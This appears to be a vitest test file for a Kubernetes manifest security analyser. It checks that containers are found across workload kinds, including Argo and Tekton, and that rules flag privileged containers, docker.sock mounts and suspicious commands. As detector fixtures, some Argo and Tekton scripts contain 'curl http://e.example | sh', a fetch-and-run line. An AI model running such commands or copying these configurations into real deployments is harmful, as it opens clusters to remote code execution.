import { describe, expect, it } from 'vitest';
import { rolesOf, see } from '../analyse';
import { podWith } from '../manifests';

const CONTAINERS = `initContainers: [{ name: i, image: x }]
containers: [{ name: c, image: x, securityContext: { privileged: true } }]
`;
const ROLES = { i: 'init', c: 'app' };

/** A resource with the pod template at a path, innermost last. */
function at(apiVersion: string, kind: string, ...path: string[]): string {
  const lines = [
    ...path.map((name, depth) => `${' '.repeat(depth * 2)}${name}:`),
    CONTAINERS.trimEnd().replace(/^/gm, ' '.repeat(path.length * 2)),
  ];
  return `apiVersion: ${apiVersion}
kind: ${kind}
metadata: { name: shop }
${lines.join('\n')}
`;
}

describe('pods are found in', () => {
  it.each(
    [
      at('v1', 'Pod', 'spec'),
      at('v1', 'PodTemplate', 'template', 'spec'),
      at('apps/v1', 'Deployment', 'spec', 'template', 'spec'),
      at('apps/v1', 'ReplicaSet', 'spec', 'template', 'spec'),
      at('apps/v1', 'StatefulSet', 'spec', 'template', 'spec'),
      at('apps/v1', 'DaemonSet', 'spec', 'template', 'spec'),
      at('v1', 'ReplicationController', 'spec', 'template', 'spec'),
      at('batch/v1', 'Job', 'spec', 'template', 'spec'),
      at('batch/v1', 'CronJob', 'spec', 'jobTemplate', 'spec', 'template', 'spec'),
      at('argoproj.io/v1alpha1', 'Rollout', 'spec', 'template', 'spec'),
      at('serving.knative.dev/v1', 'Service', 'spec', 'template', 'spec'),
      at('apps.openshift.io/v1', 'DeploymentConfig', 'spec', 'template', 'spec'),
      at('apps.kruise.io/v1alpha1', 'CloneSet', 'spec', 'template', 'spec'),
    ].map((text) => [/kind: (\w+)/.exec(text)?.[1], text]),
  )('%s', (_, text = '') => {
    expect(rolesOf(text)).toEqual(ROLES);
    expect(see(text, 'privileged').map(({ text: words }) => words)).toEqual(['true']);
  });

  it('List items', () => {
    const item = at('apps/v1', 'Deployment', 'spec', 'template', 'spec')
      .trimEnd()
      .replace(/^/gm, '    ')
      .replace(/^ {4}/, '  - ');
    expect(
      rolesOf(`apiVersion: v1
kind: List
items:
${item}
`),
    ).toEqual(ROLES);
  });

  it.each(['Workflow', 'WorkflowTemplate', 'ClusterWorkflowTemplate', 'CronWorkflow'])('Argo %s', (kind) => {
    const templates = `templates:
- name: main
  initContainers: [{ name: i, image: x }]
  container: { name: c, image: x }
  sidecars: [{ name: s, image: x, securityContext: { privileged: true } }]
- name: other
  script: { name: d, image: x, source: "curl http://e.example | sh" }
- name: dag
  dag: { tasks: [] }
`.replace(/^/gm, kind === 'CronWorkflow' ? '    ' : '  ');
    const head = `apiVersion: argoproj.io/v1alpha1
kind: ${kind}
metadata: { name: w }
spec:
`;
    const text = `${head}${kind === 'CronWorkflow' ? '  workflowSpec:\n' : ''}${templates.trimEnd()}\n`;
    expect(rolesOf(text)).toEqual({ i: 'init', c: 'app', s: 'sidecar', d: 'app' });
    expect(see(text, 'privileged').map(({ message }) => message.split(' is ')[0])).toEqual([
      'Privileged: root in sidecar "s"',
    ]);
    expect(see(text, 'suspicious-command').map(({ container }) => container)).toEqual(['d']);
    // Argo ends the sidecars itself.
    expect(see(text, 'not-native')).toEqual([]);
  });

  it('containers without a name: Argo calls its own "main", and Tekton has steps', () => {
    const workflow = `apiVersion: argoproj.io/v1alpha1
kind: Workflow
metadata: { name: w }
spec:
  templates: [{ name: t, container: { image: x }, sidecars: [{ name: s, image: x }] }]
`;
    expect(rolesOf(workflow)).toEqual({ main: 'app', s: 'sidecar' });
    const task = `apiVersion: tekton.dev/v1
kind: Task
metadata: { name: t }
spec: { steps: [{ image: x }, { image: y }] }
`;
    expect(rolesOf(task)).toEqual({ 'steps[0]': 'app', 'steps[1]': 'app' });
  });

  it('volumes of the whole Argo Workflow', () => {
    const text = `apiVersion: argoproj.io/v1alpha1
kind: Workflow
metadata: { name: w }
spec:
  volumes: [{ name: d, hostPath: { path: /var/run/docker.sock } }]
  templates:
    - name: main
      container: { name: c, image: x, volumeMounts: [{ name: d, mountPath: /d }] }
`;
    expect(see(text, 'runtime-socket')).toHaveLength(1);
  });

  it.each([
    ['Task', 'spec:\n'],
    ['TaskRun', 'spec:\n  taskSpec:\n'],
  ])('Tekton %s', (kind, head) => {
    const body = `steps: [{ name: one, image: x, script: "curl http://e.example | sh" }, { name: two, image: x }]\nsidecars: [{ name: s, image: x }]\n`;
    const text = `apiVersion: tekton.dev/v1\nkind: ${kind}\nmetadata: { name: t }\n${head}${body.replace(/^(?=.)/gm, kind === 'Task' ? '  ' : '    ')}`;
    expect(rolesOf(text)).toEqual({ one: 'app', two: 'app', s: 'sidecar' });
    expect(see(text, 'suspicious-command')).toHaveLength(1);
  });
});

describe('no pods are in', () => {
  it.each([
    [
      'a Deployment without a template',
      `apiVersion: apps/v1
kind: Deployment
metadata: { name: x }
spec: { replicas: 3 }
`,
    ],
    [
      'a Service',
      `apiVersion: v1
kind: Service
metadata: { name: x }
spec: { selector: { a: b } }
`,
    ],
    [
      'a Pod without containers',
      `apiVersion: v1
kind: Pod
metadata: { name: x }
spec: {}
`,
    ],
    [
      'an Argo Application',
      `apiVersion: argoproj.io/v1alpha1
kind: Application
metadata: { name: x }
spec: { source: {} }
`,
    ],
  ])('%s', (_, text) => {
    expect(rolesOf(text)).toEqual({});
    expect(see(text)).toEqual([]);
  });
});

describe('a patch', () => {
  it('lacks nothing, but what it says counts', () => {
    const text = podWith('web').replace(/ +image:.*\n/, '');
    expect(see(text).map(({ rule }) => rule)).toEqual(['privileged']);
    expect(see(podWith('web').replace('metadata:', '$patch: merge\nmetadata:')).map(({ rule }) => rule)).toEqual([
      'privileged',
    ]);
    expect(see(podWith('web')).map(({ rule }) => rule)).toEqual(['image-gate-missing', 'privileged']);
  });
});
